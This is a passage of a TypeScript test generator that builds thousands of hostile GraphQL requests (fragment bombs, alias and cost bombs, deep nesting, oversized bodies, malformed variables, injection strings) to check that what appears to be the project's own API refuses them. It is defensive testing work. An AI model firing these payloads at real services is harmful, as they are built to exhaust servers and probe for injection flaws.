  const base: unknown[] = [{}, [{}], { nested: { deep: [1, 2, 3] } }];
  if (isNonNullType(type)) base.push(null);
  if (isEnumType(named)) return [...base, 'NOT_A_VALUE', 1, true, named.getValues()[0]!.name.toLowerCase()];
  if (isInputObjectType(named)) return [...base.slice(1), 'x', 1, { unknownField: 1 }];
  switch (named.name) {
    case 'Int':
      return [...base, '1', 1.5, true, 2 ** 31, -(2 ** 31) - 1, 'NaN', 1e300];
    case 'Fen':
      return [...base, 1.5, true, 'NaN', 2 ** 60];
    case 'Float':
      return [...base, '1.5', true];
    case 'Boolean':
      return [...base, 'true', 1];
    case 'ID':
      return [...base, true, 1.5];
    case 'Date':
      return [...base, 20190101, true, 'yesterday', '2019-13-45'];
    case 'DateTime':
      return [...base, 1561852800000, true, 'now', '2019-06-30T25:61:61Z'];
    default:
      return [...base, 1, true, 1.5];
  }
}

function variables(b: Builder, facts: SchemaFacts) {
  const category = 'variables';
  const all = targets(facts, () => true);
  for (const target of all) {
    for (const value of wrongValues(target.arg.type)) {
      const args = argumentList(target.field, { [target.arg.name]: '$v' });
      const query = `query Hostile($v: ${String(target.arg.type)}) { ${target.host.open}${target.field.name}${args} ${selectionFor(target.field.type)}${target.host.close} }`;
      b.post(
        category,
        `${target.host.type.name}.${target.field.name}(${target.arg.name}) given ${JSON.stringify(value)?.slice(0, 30)}`,
        { query, variables: { v: value } },
        userError(['BAD_USER_INPUT', 'COST_LIMIT_EXCEEDED']),
        {
          caller: callerFor(b.rng, target.field),
        },
      );
    }
  }
  // The same mistakes as literals: refused by validation, before anything runs.
  for (const target of all) {
    const named = getNamedType(target.arg.type);
    const literals = isEnumType(named)
      ? [JSON.stringify(named.getValues()[0]!.name), '1']
      : isInputObjectType(named)
        ? ['1', '"x"']
        : ['Int', 'Float', 'Fen'].includes(named.name)
          ? ['"1"', 'true']
          : named.name === 'Boolean'
            ? ['1', '"true"']
            : ['{ a: 1 }', 'true'];
    for (const literal of literals) {
      const query = `{ ${target.host.open}${target.field.name}${argumentList(target.field, { [target.arg.name]: literal })} ${selectionFor(target.field.type)}${target.host.close} }`;
      b.post(
        category,
        `${target.host.type.name}.${target.field.name}(${target.arg.name}: ${literal})`,
        { query },
        userError(['GRAPHQL_VALIDATION_FAILED', 'BAD_USER_INPUT']),
        { caller: callerFor(b.rng, target.field) },
      );
    }
  }
  for (let i = 0; i < 15; i++) {
    b.post(
      category,
      'variable declared String used as Int',
      { query: 'query($n: String) { communities(first: $n) { totalCount } }', variables: { n: '10' } },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
    b.post(
      category,
      'undeclared variable',
      { query: '{ communities(first: $n) { totalCount } }', variables: { n: 10 } },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
    b.post(
      category,
      'variable of an unknown type',
      { query: 'query($n: Nope) { communities(first: $n) { totalCount } }', variables: { n: 10 } },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
    b.post(
      category,
      'variable of an output type',
      { query: 'query($n: District) { __typename }', variables: { n: {} } },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
    b.post(
      category,
      'variable declared twice',
      { query: 'query($n: Int, $n: Int) { communities(first: $n) { totalCount } }', variables: { n: 1 } },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
    b.post(
      category,
      'literal string where Int goes',
      { query: '{ communities(first: "10") { totalCount } }' },
      userError(['GRAPHQL_VALIDATION_FAILED']),
    );
  }
}

const firstValues: [string, unknown, 'literal' | 'variable'][] = [
  ['2^31', 2 ** 31, 'literal'],
  ['2^31', 2 ** 31, 'variable'],
  ['2^31 - 1', 2 ** 31 - 1, 'literal'],
  ['2^31 - 1', 2 ** 31 - 1, 'variable'],
  ['-1', -1, 'literal'],
  ['-1', -1, 'variable'],
  ['-2^31', -(2 ** 31), 'literal'],
  ['1e9', '1e9', 'literal'],
  ['1e9', 1e9, 'variable'],
  ['501', 501, 'variable'],
  ['100000', 100000, 'literal'],
  ['2^53 + 1', '9007199254740993', 'literal'],
  ['1e400', Infinity, 'variable'],
  ['-2^31', -(2 ** 31), 'variable'],
  ['100000', 100000, 'variable'],
  ['2^63', '9223372036854775808', 'literal'],
  ['-0.5', -0.5, 'variable'],
  ['"10"', '"10"', 'literal'],
  ['"10"', '10', 'variable'],
  ['[500]', [500], 'variable'],
];

function first(b: Builder, facts: SchemaFacts) {
  const category = 'first';
  const pages = targets(facts, (arg) => arg.name === 'first');
  for (const target of pages) {
    for (const [label, value, form] of firstValues) {
      const { host, field } = target;
      const selection = selectionFor(field.type);
      const query =
        form === 'literal'
          ? `{ ${host.open}${field.name}${argumentList(field, { first: String(value) })} ${selection}${host.close} }`
          : `query Hostile($v: Int) { ${host.open}${field.name}${argumentList(field, { first: '$v' })} ${selection}${host.close} }`;
      const payload = form === 'literal' ? { query } : { query, variables: { v: value } };
      // JSON has no Infinity: 1e400 (which parses to it) is written into the body by hand.
      const body = value === Infinity ? JSON.stringify(payload).replace('"v":null', '"v":1e400') : undefined;
      const expect = userError(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'COST_LIMIT_EXCEEDED']);
      const caller = callerFor(b.rng, field);
      const name = `${host.type.name}.${field.name}(first: ${label}) as ${form}`;
      if (body) b.raw({ method: 'POST', headers: { 'content-type': json }, body, category, label: name, expect, caller });
      else b.post(category, name, payload, expect, { caller });
    }
  }
}

function cursors(b: Builder, facts: SchemaFacts) {
  const category = 'cursors';
  const pages = targets(facts, (arg) => arg.name === 'after');
  const garbage = () => {
    const kind = b.rng.int(8);
    if (kind === 0) return b.rng.bytes(4 + b.rng.int(60)).toString('base64');
    if (kind === 1) return b.rng.bytes(4 + b.rng.int(60)).toString('base64url');
    if (kind === 2) return '\u0000'.repeat(1 + b.rng.int(4));
    if (kind === 3) return Buffer.from(`k:${b.rng.pick(injectionStrings)}`).toString('base64url');
    if (kind === 4)
      return Buffer.from(
        `k:${b.rng.pick(['-1', '99999999999999999999', '\u0000', '', 'NaN', '1e999', '00000000-0000-0000-0000-00000000000g'])}`,
      ).toString('base64url');
    if (kind === 5) return 'A'.repeat(20_000 + b.rng.int(20_000));
    if (kind === 6) return b.rng.pick(['=', '====', '%%%', 'a+/b==', ' a b ', '\ud800', '..', 'null']);
    return Buffer.from(`k:${'9'.repeat(10_000)}`).toString('base64url');
  };
  for (const target of pages) {
    for (let i = 0; i < 30; i++) {
      const value = garbage();
      const asVariable = i % 2 === 1;
      const { query, variables: vars } = attack(target, value, asVariable);
      const crafted = Buffer.from(value, 'base64url').toString('utf8').startsWith('k:');
      b.post(
        category,
        `${target.host.type.name}.${target.field.name}(after: ${crafted ? 'crafted' : 'garbage'} ${value.length} chars) as ${asVariable ? 'variable' : 'literal'}`,
        vars ? { query, variables: vars } : { query },
        crafted ? anyAnswer : userError(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'PAYLOAD_TOO_LARGE']),
        {
          caller: callerFor(b.rng, target.field),
          echoes: [value],
        },
      );
    }
  }
}

/** Each string into each argument; as a literal and as a variable, or (`alternate`) one of the two in turn. */
function plantStrings(
  b: Builder,
  facts: SchemaFacts,
  category: Category,
  strings: readonly string[],
  want: (arg: GraphQLArgument) => boolean,
  dates: readonly string[] = [],
  alternate = false,
) {
  for (const target of targets(facts, want)) {
    const named = getNamedType(target.arg.type).name;
    const values = named === 'Date' || named === 'DateTime' ? [...dates, ...strings.slice(0, 4)] : strings;
    for (const [index, value] of values.entries()) {
      for (const asVariable of alternate ? [index % 2 === 1] : [false, true]) {
        const { query, variables: vars } = attack(target, value, asVariable);
        b.post(
          category,
          `${target.host.type.name}.${target.field.name}(${target.arg.name}: ${JSON.stringify(value).slice(0, 40)}) as ${asVariable ? 'variable' : 'literal'}`,
          vars ? { query, variables: vars } : { query },
          anyAnswer,
          {
            caller: callerFor(b.rng, target.field),
            echoes: [value],
          },
        );
      }
    }
  }
}

function unicode(b: Builder, facts: SchemaFacts) {
  const category = 'unicode';
  plantStrings(b, facts, category, unicodeStrings, (arg) => takesString(arg.type) && arg.name !== 'after', dateStrings);
  const invalidDate = userError(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED']);
  for (let i = 0; i < 10; i++) {
    b.post(category, 'community(id: NUL)', { query: '{ community(id: "\\u0000") { id } }' }, anyAnswer, { echoes: ['\u0000'] });
    b.post(category, 'subdistricts(asOf: 0000-01-01)', { query: '{ subdistricts(asOf: "0000-01-01") { name } }' }, anyAnswer);
    b.post(category, 'subdistricts(asOf: 2019-13-45)', { query: '{ subdistricts(asOf: "2019-13-45") { name } }' }, invalidDate);
    b.post(
      category,
      'subdistricts(asOf: 2019-13-45) as variable',
      { query: 'query($d: Date) { subdistricts(asOf: $d) { name } }', variables: { d: '2019-13-45' } },
      invalidDate,
    );
  }
}

function injection(b: Builder, facts: SchemaFacts) {
  const category = 'injection';
  // Every string reaches SQL here (these run): one form each keeps the category within its time.
  plantStrings(b, facts, category, injectionStrings, (arg) => takesString(arg.type) && arg.name !== 'after', [], true);
  // Writes too: every string of every mutation input, as an admin (refusals must not quote SQL either).
  for (const field of facts.mutation ? fieldsOf(facts.mutation) : []) {
    for (const value of injectionStrings.slice(0, 6)) {
      const literal = (type: GraphQLInputType, depth = 0): string => {
        if (isNonNullType(type)) return literal(type.ofType, depth);
        if (isListType(type)) return `[${literal(type.ofType, depth)}]`;
        if (isInputObjectType(type) && depth < 3) {
          const fields = Object.values(type.getFields()).filter((f) => accessible(f) && (isNonNullType(f.type) || takesString(f.type)));
          return `{ ${fields.map((f) => `${f.name}: ${literal(f.type, depth + 1)}`).join(', ')} }`;
        }
        return takesString(type) ? JSON.stringify(value) : dummyLiteral(type);
      };
      const args = argsOf(field).filter((arg) => isNonNullType(arg.type) || takesString(arg.type));
      const query = `mutation { ${field.name}${args.length ? `(${args.map((arg) => `${arg.name}: ${literal(arg.type)}`).join(', ')})` : ''} { __typename } }`;
      b.post(category, `mutation ${field.name} with ${JSON.stringify(value).slice(0, 30)}`, { query }, anyAnswer, {
        caller: 'admin',
        echoes: [value],
      });
    }
  }
}

function giant(b: Builder, limit: number) {
  const category = 'giant';
  const overLimit = refused(['PAYLOAD_TOO_LARGE'], { statuses: [413] });
  const underLimit: Expectation = { kind: 'any', notStatuses: [413] };
  // The body is `{"query":…,"variables":{"s":"<filler>"}}`, sized to the byte.
  const sized = (size: number, filler: string) => {
    const head = '{"query":"query($s: String) { communities(search: $s) { totalCount } }","variables":{"s":"';
    const tail = '"}}';
    const unit = Buffer.byteLength(filler);
    const room = size - Buffer.byteLength(head) - Buffer.byteLength(tail);
    return head + filler.repeat(Math.floor(room / unit)) + 'x'.repeat(room % unit) + tail;
  };
  for (const filler of ['x', '新', '🏠']) {
    for (const size of [limit - 1, limit - 100, Math.floor(limit * 0.9), Math.floor(limit / 2)]) {
      for (let i = 0; i < 5; i++)
        b.raw({
          method: 'POST',
          headers: { 'content-type': json },
          body: sized(size, filler),
          category,
          label: `${size}-byte body (search string of ${JSON.stringify(filler)})`,
          expect: underLimit,
          caller: callerFor(b.rng),
          echoes: [filler],
        });
    }
    for (const size of [limit + 1, limit + 1024, limit * 2, 4 * 1024 * 1024]) {
      for (let i = 0; i < 4; i++)
        b.raw({
          method: 'POST',
          headers: { 'content-type': json },
          body: sized(size, filler),
          category,
          label: `${size}-byte body (over the limit)`,
          expect: overLimit,
          caller: callerFor(b.rng),
          echoes: [filler],
        });
    }
  }
  // A valid query padded with whitespace: just under the limit is served, just over is not.
  const padded = (size: number) => {
    const text = '{"query":"{ district { name } }"';
    return text + ' '.repeat(size - text.length - 1) + '}';
  };
  for (let i = 0; i < 5; i++) {
    b.raw({
      method: 'POST',
      headers: { 'content-type': json },
      body: padded(limit),
      category,
      label: `${limit}-byte whitespace-padded query (at the limit)`,
      expect: { kind: 'accepted' },
      caller: callerFor(b.rng),
    });
    b.raw({
      method: 'POST',
      headers: { 'content-type': json },
      body: padded(limit + 1),
      category,
      label: `${limit + 1}-byte whitespace-padded query`,
      expect: overLimit,
      caller: callerFor(b.rng),
    });
    b.raw({
      method: 'POST',
      headers: { 'content-type': json, 'transfer-encoding': 'chunked' },
      body: padded(limit * 3),
      category,
      label: 'chunked body over the limit (no content-length)',
      expect: overLimit,
      caller: callerFor(b.rng),
    });
  }
  // A literal string of the same sizes: the document itself is giant.
  for (const size of [30_000, 100_000, limit - 200]) {
    for (let i = 0; i < 4; i++) {
      b.post(
        category,
        `query document with a ${size}-character string literal`,
        { query: `{ communities(search: "${'x'.repeat(size)}") { totalCount } }` },
        refused(['PAYLOAD_TOO_LARGE', 'MAX_TOKENS_LIMIT', 'BAD_USER_INPUT']),
        { echoes: ['x'] },
      );
    }
  }
  for (let i = 0; i < 3; i++) {
    b.raw({
      method: 'GET',
      search: `?${new URLSearchParams({ query: `{ communities(search: "${'x'.repeat(20_000)}") { totalCount } }` })}`,
      headers: { 'apollo-require-preflight': 'true' },
      category,
      label: '20 KB query string',
      expect: refused(undefined, { statuses: [400, 413, 414, 431] }),
      caller: 'public',
    });
    b.raw({
      method: 'POST',
      headers: { 'content-type': json, 'x-padding': 'x'.repeat(20_000) },
      body: '{"query":"{ __typename }"}',
      category,
      label: '20 KB header',
      expect: refused(undefined, { statuses: [400, 413, 431] }),
      caller: 'public',
    });
  }
}

/** A real path nested `depth` fields deep, cycling through the schema. */
export function depthQuery(path: 'organisations' | 'subdistrict' | 'serviceRequests' | 'residentsCommittee', depth: number): string {
  const cycles: Record<typeof path, { root: string[]; cycle: string[] }> = {
    organisations: { root: [`community(code: "${knownCommunityCode}")`], cycle: ['organisations(first: 1)', 'edges', 'node', 'community'] },
    subdistrict: { root: ['district', 'subdistricts'], cycle: ['communities(first: 1)', 'edges', 'node', 'subdistrict'] },
    serviceRequests: { root: ['serviceRequests(first: 1)'], cycle: ['edges', 'node', 'community', 'serviceRequests(first: 1)'] },
    residentsCommittee: {
      root: [`community(code: "${knownCommunityCode}")`],
      cycle: ['residentsCommittees', 'organisation', 'residentsCommittee', 'community'],
    },
  };
  const { root, cycle } = cycles[path];
  const fields = root.slice(0, depth);
  for (let i = 0; fields.length < depth; i++) fields.push(cycle[i % cycle.length]!);
  return `{ ${fields.map((f) => `${f} {`).join(' ')} __typename ${'}'.repeat(fields.length)} }`;
}

function depth(b: Builder) {
  const category = 'depth';
  const paths = ['organisations', 'subdistrict', 'serviceRequests', 'residentsCommittee'] as const;
  const depths = [16, 17, 18, 20, 24, 32, 50, 64, 100, 150, 200, 300, 500, 1000, 2000, 5000];
  for (const path of paths) {
    for (const d of depths) {
      for (let i = 0; i < 5; i++) {
        const query = depthQuery(path, d);
        const small = Buffer.byteLength(query) < 4_000;
        b.post(category, `${d} fields deep via ${path}`, { query }, refused(small ? ['MAX_DEPTH_LIMIT'] : limitCodes), {
          caller: callerFor(b.rng),
        });
      }
    }
    // At the limit: served or refused by cost, never a 5xx.
    for (let i = 0; i < 3; i++) b.post(category, `15 fields deep via ${path}`, { query: depthQuery(path, 15) }, anyAnswer);
  }
  // Depth hidden behind named fragments, one per level.
  for (const d of [16, 20, 40, 100]) {
    const names = Array.from({ length: d }, (_, i) => `L${i}`);
    const fragments = names.map(
      (name, i) =>
        `fragment ${name} on ${i % 4 === 0 ? 'Community' : i % 4 === 1 ? 'OrganisationConnection' : i % 4 === 2 ? 'OrganisationEdge' : 'Organisation'} { ${i === d - 1 ? '__typename' : `${['organisations(first: 1)', 'edges', 'node', 'community'][i % 4]} { ...${names[i + 1]} }`} }`,
    );
    for (let i = 0; i < 5; i++)
      b.post(
        category,
        `${d} levels deep through named fragments`,
        { query: `{ community(code: "${knownCommunityCode}") { ...L0 } } ${fragments.join(' ')}` },
        refused(Buffer.byteLength(fragments.join(' ')) < 4_000 ? ['MAX_DEPTH_LIMIT'] : limitCodes),
      );
  }
  // Nesting the parser recurses on: selection sets, list and object literals, inline fragments.
  for (const n of [1_000, 10_000, 100_000]) {
    for (let i = 0; i < 4; i++) {
      b.post(
        category,
        `${n} unclosed braces`,
        { query: '{ district '.concat('{ '.repeat(n)) },
        refused(['GRAPHQL_PARSE_FAILED', ...limitCodes]),
      );
      b.post(
        category,
        `list literal ${n} deep`,
        { query: `{ communities(search: ${'['.repeat(n)}"x"${']'.repeat(n)}) { totalCount } }` },
        refused(['GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED', ...limitCodes]),
      );
      b.post(
        category,
        `object literal ${n} deep`,
        { query: `{ communities(search: ${'{a: '.repeat(n)}1${'}'.repeat(n)}) { totalCount } }` },
        refused(['GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED', ...limitCodes]),
      );
      b.post(
        category,
        `${n} nested inline fragments`,
        { query: `{ ${'... on Query { '.repeat(n)}__typename ${'} '.repeat(n)}}` },
        n > 1_000 ? refused(limitCodes) : anyAnswer,
      );
      // Written by hand: JSON.stringify itself recurses.
      const body = `{"query":"query($s: String) { communities(search: $s) { totalCount } }","variables":{"s":${'['.repeat(n)}${']'.repeat(n)}}}`;
      b.raw({
        method: 'POST',
        headers: { 'content-type': json },
        body,
        category,
        label: `JSON variables ${n} deep`,
        expect: userError(['BAD_USER_INPUT', 'BAD_REQUEST', 'PAYLOAD_TOO_LARGE']),
        caller: callerFor(b.rng),
      });
    }
  }
}

/** `{...F<levels>}` where each fragment spreads the one below `width` times: width^levels fields once expanded. */
export function fragmentBomb(levels: number, width: number, base: string, type = 'Query'): string {
  const fragments = [`fragment F0 on ${type} { ${base} }`];
  for (let i = 1; i <= levels; i++) fragments.push(`fragment F${i} on ${type} { ${`...F${i - 1} `.repeat(width).trim()} }`);
  return `{ ...F${levels} } ${fragments.join(' ')}`;
}

function fragments(b: Builder) {
  const category = 'fragments';
  const cycle = refused(['GRAPHQL_VALIDATION_FAILED', ...limitCodes]);
  for (let i = 0; i < 10; i++) {
    b.post(category, 'fragment spreading itself', { query: '{ ...A } fragment A on Query { ...A }' }, cycle);
    b.post(category, 'two-fragment cycle', { query: '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }' }, cycle);
    b.post(
      category,
      'cycle through fields',
      {
        query: `{ community(code: "${knownCommunityCode}") { ...C } } fragment C on Community { organisations { edges { node { community { ...C } } } } }`,
      },
      cycle,
    );
    b.post(category, 'unused cycle', { query: '{ __typename } fragment A on Query { ...B } fragment B on Query { ...A }' }, cycle);
    b.post(
      category,
      'cycle spread 100 times',
      { query: `{ ${'...A '.repeat(100)}} fragment A on Query { ...B } fragment B on Query { ...A __typename }` },
      cycle,
    );
  }
  for (const n of [3, 10, 100, 1_000, 3_000]) {
    const text = Array.from({ length: n }, (_, i) => `fragment C${i} on Query { ...C${(i + 1) % n} }`).join(' ');
    for (let i = 0; i < 6; i++) b.post(category, `${n}-fragment cycle`, { query: `{ ...C0 } ${text}` }, cycle);
  }
  for (let i = 0; i < 6; i++) {
    b.post(
      category,
      '1,000 fragments with the same name',
      { query: `{ ...D } ${'fragment D on Query { __typename } '.repeat(1_000)}` },
      cycle,
    );
    b.post(category, 'fragment on a type it cannot apply to', { query: '{ ...P } fragment P on Person { name }' }, cycle);
  }
  const bombs: [number, number, string, string?][] = [
    [8, 10, '__typename'],
    [5, 10, '__typename'],
    [6, 10, 'district { name }'],
    [16, 2, '__typename'],
    [20, 2, '__typename'],
    [30, 2, '__typename'],
    [60, 2, 'district { name subdistricts { name } }'],
    [4, 50, '__typename'],
    [3, 100, 'serviceRequests(first: 500) { totalCount edges { node { id description } } }'],
    [2, 1_000, '__typename'],
    [6, 20, `community(code: "${knownCommunityCode}") { name }`],
    [8, 10, 'id name organisations(first: 500) { totalCount }', 'Community'],
  ];
  for (const [levels, width, base, type] of bombs) {
    const query = type
      ? `{ community(code: "${knownCommunityCode}") { ...F${levels} } } ${fragmentBomb(levels, width, base, type).replace(/^\{ \.\.\.F\d+ \} /, '')}`
      : fragmentBomb(levels, width, base);
    for (let i = 0; i < 12; i++)
      b.post(category, `fragment bomb ${width}^${levels} of ${base.slice(0, 40)}`, { query }, refused(limitCodes));
  }
  // Aliased leaves defeat field merging, so nothing collapses before the limits do.
  for (let i = 0; i < 12; i++) {
    const fragmentsText = [
      `fragment G0 on Query { ${Array.from({ length: 10 }, (_, j) => `a${j}: __typename`).join(' ')} }`,
      ...Array.from({ length: 6 }, (_, j) => `fragment G${j + 1} on Query { ${`...G${j} `.repeat(10)}}`),
    ];
    b.post(category, 'fragment bomb of aliased fields', { query: `{ ...G6 } ${fragmentsText.join(' ')}` }, refused(limitCodes));
  }
}

function directives(b: Builder) {
  const category = 'directives';
  const flood = refused(['GRAPHQL_VALIDATION_FAILED', ...limitCodes]);
  for (const n of [51, 100, 1_000, 5_000, 10_000, 14_000, 50_000]) {
    for (let i = 0; i < 5; i++) {
      b.post(
        category,
        `${n} × @include(if: true) on one field`,
        { query: `{ district ${'@include(if: true) '.repeat(n)}{ name } }` },
        flood,
      );
      b.post(category, `${n} × @skip(if: false) over repeated fields`, { query: `{ ${'__typename @skip(if: false) '.repeat(n)}}` }, flood);
      b.post(
        category,
        `${n} × @include(if: $t)`,
        { query: `query($t: Boolean!) { district ${'@include(if: $t) '.repeat(n)}{ name } }`, variables: { t: true } },
        flood,
      );
    }
  }
  for (const n of [100, 5_000]) {
    for (let i = 0; i < 5; i++) {
      b.post(category, `${n} unknown directives`, { query: `{ district ${'@nope '.repeat(n)}{ name } }` }, flood);
      b.post(category, `${n} directives on the operation`, { query: `query Q ${'@include(if: true) '.repeat(n)}{ __typename }` }, flood);
      b.post(
        category,
        `${n} directives on a fragment`,
        { query: `{ ...F } fragment F on Query ${'@include(if: true) '.repeat(n)}{ __typename }` },
        flood,
      );
    }
  }
}

export function aliasBomb(n: number, selection: string): string {
  return `{ ${Array.from({ length: n }, (_, i) => `a${i}: ${selection}`).join(' ')} }`;
}

function aliases(b: Builder) {
  const category = 'aliases';
  const bomb = refused(limitCodes);
  const selections = [
    'serviceRequests(first: 500) { totalCount edges { node { id description } } }',
    'district { population(year: 2019) { total } }',
    '__typename',
    'communities(first: 500) { totalCount edges { node { name } } }',
    'subdistricts { communities { totalCount } }',
  ];
  for (const selection of selections) {
    for (const n of [51, 100, 500, 1_000, 2_000, 3_000, 5_000]) {
      for (let i = 0; i < 2; i++) b.post(category, `${n} aliases of ${selection.slice(0, 50)}`, { query: aliasBomb(n, selection) }, bomb);
    }
  }
  // Aliases on a nested field and repeated unaliased fields (merged, but each one validated).
  for (let i = 0; i < 5; i++) {
    b.post(
      category,
      '1,000 aliases under a community',
      {
        query: `{ community(code: "${knownCommunityCode}") { ${Array.from({ length: 1_000 }, (_, j) => `a${j}: population(year: ${2000 + (j % 20)}) { total }`).join(' ')} } }`,
      },
      bomb,
    );
    b.post(category, '2,900 repeated unaliased fields', { query: `{ ${'district { name } '.repeat(2_900)}}` }, bomb);
    b.post(category, '5,000 aliases of person', { query: aliasBomb(5_000, 'person(id: "1") { id }') }, bomb, { caller: 'admin' });
  }
}

function cost(b: Builder) {
  const category = 'cost';
  const expensive = refused(limitCodes);
  const nested = (n: number) => {
    let inner = 'serviceRequests(first: 500) { totalCount edges { node { id description } } }';
    for (let i = 1; i < n; i++) inner = `serviceRequests(first: 500) { edges { node { community { ${inner} } } } }`;
    return `{ ${inner} }`;
  };
  const withinDepth = [
    nested(2),
    nested(3),
    `{ communities(first: 500) { edges { node { organisations(first: 500) { edges { node { community { organisations(first: 500) { totalCount } } } } } } } } }`,
    `{ serviceRequests(first: 500) { edges { node { community { serviceRequests(first: 500) { edges { node { community { serviceRequests(first: 500) { totalCount } } } } } } } } } }`,
    aliasBomb(50, 'serviceRequests(first: 500) { totalCount edges { node { id description community { name } } } }'),
    aliasBomb(50, 'communities(first: 500) { edges { node { serviceRequests(first: 500) { totalCount } } } }'),
    `{ district { subdistricts { communities(first: 500) { edges { node { organisations(first: 500) { edges { node { posts { holders { person { name } } } } } } } } } } } }`,
  ];
  for (const query of withinDepth) {
    for (let i = 0; i < 5; i++) {
      // Hostile callers are the public and partners; an admin's budget admits some of these as bulk reads.
      b.post(category, `cost bomb ${query.slice(0, 70)}`, { query }, expensive, { caller: b.rng.pick(['public', 'partner'] as const) });
      b.post(
        category,
        `cost bomb with page sizes in variables ${query.slice(0, 50)}`,
        { query: `query Bomb($n: Int = 500) ${query.replace(/first: 500/g, 'first: $n')}`, variables: { n: 500 } },
        expensive,
        {
          caller: b.rng.pick(['public', 'partner'] as const),
        },
      );
    }
  }
  for (let i = 0; i < 5; i++) {
    b.post(category, '20 nested serviceRequests(first: 500)', { query: nested(20) }, expensive);
    b.post(
      category,
      '5,000 aliases of district population',
      { query: aliasBomb(5_000, 'district { population(year: 2019) { total } }') },
      expensive,
    );
    b.post(
      category,
      'residents of every community, 500 a page',
      {
        query: '{ communities(first: 500) { edges { node { residents(first: 500) { edges { node { name memberships { role } } } } } } } }',
      },
      expensive,
      { caller: 'admin' },
    );
    b.post(
      category,
      'people(first: 500) with nested pages',
      {
        query:
          '{ people(first: 500) { edges { node { name community { serviceRequests(first: 500) { edges { node { id description } } } } } } } }',
      },
      expensive,
      { caller: 'admin' },
    );
  }
}

/** At least 10,000 hostile requests over every category, the same ones for the same seed and schema. */
export function generate(options: GenerateOptions = {}): HostileRequest[] {
  const facts = schemaFacts(options.supergraphSdl ?? readFileSync(supergraphPath, 'utf8'));
  const b = new Builder(prng(options.seed ?? 2019), options.tokens ?? {}, options.addresses ?? 0);
  const limit = options.bodyLimit ?? defaultBodyLimit;
  const byCategory: Record<Category, () => void> = {
    malformed: () => malformed(b),
    batches: () => batches(b),
    'get-mutations': () => getMutations(b, facts),
    apq: () => apq(b),
    'unknown-fields': () => unknownFields(b, facts),
    variables: () => variables(b, facts),
    first: () => first(b, facts),
    cursors: () => cursors(b, facts),
    unicode: () => unicode(b, facts),
    injection: () => injection(b, facts),
    giant: () => giant(b, limit),
    depth: () => depth(b),
    fragments: () => fragments(b),
    directives: () => directives(b),
    aliases: () => aliases(b),
    cost: () => cost(b),
  };
  for (const category of categories) byCategory[category]();
  return b.requests;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const requests = generate();
  const counts = new Map<string, number>();
  for (const request of requests) counts.set(request.category, (counts.get(request.category) ?? 0) + 1);
  for (const [category, count] of counts) console.log(`${category.padEnd(16)} ${count}`);
  console.log(`${'total'.padEnd(16)} ${requests.length}`);
}
